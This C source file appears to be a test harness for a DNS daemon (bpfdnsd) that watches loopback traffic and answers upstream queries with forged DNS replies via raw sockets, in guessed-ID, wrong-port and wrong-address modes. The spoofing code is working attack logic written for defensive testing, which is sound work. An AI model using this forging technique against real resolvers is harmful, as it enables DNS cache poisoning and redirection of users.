// SPDX-License-Identifier: (GPL-2.0-only OR BSD-2-Clause)
/*
 * forge - answer every query bpfdnsd sends to an upstream with forged
 * replies, as a spoofing attacker would, until SIGTERM or SIGINT.
 *
 *   forge IP#PORT [--mode=guess|wrong-port|wrong-addr] [--guesses=N]
 *
 * The attacker here is stronger than an off-path one: it watches lo
 * (AF_PACKET) for queries to the upstream IP#PORT, so it knows each
 * query's source port and question, and answers through a raw socket:
 *   guess       from the upstream's address and port, with N random IDs
 *               (the real one is not known: it is guessed, like the rest)
 *   wrong-port  with the query's own ID, from the upstream's address and
 *               the port after its port
 *   wrong-addr  with the query's own ID and the upstream's port, from
 *               127.0.0.99
 * Every forged reply carries A 6.6.6.6 (TTL 3600), to be looked for.
 * On exit it prints "forged N replies to M queries". IPv4 only.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include "config.h"
#include "pkt.h"

enum mode { GUESS, WRONG_PORT, WRONG_ADDR };

static volatile sig_atomic_t stop;

static void on_signal(int sig)
{
	(void)sig;
	stop = 1;
}

/* The forged reply to query q (n bytes): its question, A 6.6.6.6. */
static size_t forged_reply(const uint8_t *q, size_t n, uint16_t id, uint8_t *out)
{
	static const uint8_t answer[] = { 0xc0, 0x0c, 0, 1, 0, 1, 0, 0, 0x0e, 0x10, 0, 4, 6, 6, 6, 6 };
	size_t qend = 12;

	while (qend < n && q[qend])
		qend += q[qend] + 1u;
	qend += 5;
	if (qend > n || qend + sizeof(answer) > MSG_MAX)
		return 0;
	memcpy(out, q, qend);
	out[0] = (uint8_t)(id >> 8);
	out[1] = (uint8_t)id;
	out[2] = 0x81; /* QR, RD */
	out[3] = 0x80; /* RA, NOERROR */
	memset(out + 4, 0, 8);
	out[5] = 1; /* QDCOUNT */
	out[7] = 1; /* ANCOUNT */
	memcpy(out + qend, answer, sizeof(answer));
	return qend + sizeof(answer);
}

int main(int argc, char **argv)
{
	struct sockaddr_storage up;
	struct sockaddr_in *up4 = (struct sockaddr_in *)&up;
	enum mode mode = GUESS;
	unsigned long guesses = 16, forged = 0, queries = 0;
	int sniff, raw, one = 1;
	uint8_t pkt[MSG_MAX + 64], frame[MSG_MAX + 128], reply[MSG_MAX];

	if (argc < 2 || config_parse_addr(argv[1], 53, &up) || up.ss_family != AF_INET) {
		fprintf(stderr, "usage: forge IPv4#PORT [--mode=guess|wrong-port|wrong-addr] [--guesses=N]\n");
		return 2;
	}
	for (int i = 2; i < argc; i++) {
		if (!strcmp(argv[i], "--mode=wrong-port"))
			mode = WRONG_PORT;
		else if (!strcmp(argv[i], "--mode=wrong-addr"))
			mode = WRONG_ADDR;
		else if (!strncmp(argv[i], "--guesses=", 10))
			guesses = strtoul(argv[i] + 10, NULL, 10);
		else if (strcmp(argv[i], "--mode=guess")) {
			fprintf(stderr, "forge: unknown argument %s\n", argv[i]);
			return 2;
		}
	}
	sniff = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_IP));
	raw = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (sniff < 0 || raw < 0 || setsockopt(raw, IPPROTO_IP, IP_HDRINCL, &one, sizeof(one))) {
		perror("forge: sockets (needs root)");
		return 1;
	}
	/* no SA_RESTART: a signal must end the blocking recvfrom below */
	sigaction(SIGTERM, &(struct sigaction){ .sa_handler = on_signal }, NULL);
	sigaction(SIGINT, &(struct sigaction){ .sa_handler = on_signal }, NULL);
	fprintf(stderr, "forge: ready\n");

	while (!stop) {
		struct sockaddr_ll from;
		socklen_t flen = sizeof(from);
		ssize_t n = recvfrom(sniff, pkt, sizeof(pkt), 0, (struct sockaddr *)&from, &flen);
		struct flow f = { .family = 4 };
		struct sockaddr_in to = { .sin_family = AF_INET };
		size_t ihl, len;
		uint16_t id;

		if (n < 0) {
			if (errno == EINTR)
				continue;
			perror("forge: recv");
			return 1;
		}
		/* lo shows each packet twice: outgoing and incoming */
		if (from.sll_pkttype == PACKET_OUTGOING || n < 20 || pkt[9] != IPPROTO_UDP)
			continue;
		ihl = (pkt[0] & 0x0f) * 4u;
		if ((size_t)n < ihl + 8 + 12 || memcmp(pkt + 16, &up4->sin_addr, 4) ||
		    memcmp(pkt + ihl + 2, &up4->sin_port, 2) || (pkt[ihl + 8 + 2] & 0x80))
			continue; /* not a query to the upstream */
		queries++;
		/* the reply goes from the upstream back to the query's source */
		memcpy(f.src, &up4->sin_addr, 4);
		memcpy(f.dst, pkt + 12, 4);
		f.sport = ntohs(up4->sin_port);
		f.dport = (uint16_t)(pkt[ihl] << 8 | pkt[ihl + 1]);
		if (mode == WRONG_PORT)
			f.sport++;
		if (mode == WRONG_ADDR)
			inet_pton(AF_INET, "127.0.0.99", f.src);
		memcpy(&to.sin_addr, f.dst, 4);
		id = (uint16_t)(pkt[ihl + 8] << 8 | pkt[ihl + 9]);
		for (unsigned long g = 0; g < (mode == GUESS ? guesses : 1); g++) {
			/* a guess is a guess: the real ID is as likely as any other */
			len = forged_reply(pkt + ihl + 8, (size_t)n - ihl - 8, mode == GUESS ? (uint16_t)arc4random() : id,
					   reply);
			if (!len)
				break;
			len = frame_build(frame, &f, reply, len);
			if (sendto(raw, frame + 14, len - 14, 0, (struct sockaddr *)&to, sizeof(to)) > 0)
				forged++;
		}
	}
	printf("forged %lu replies to %lu queries\n", forged, queries);
	return 0;
}
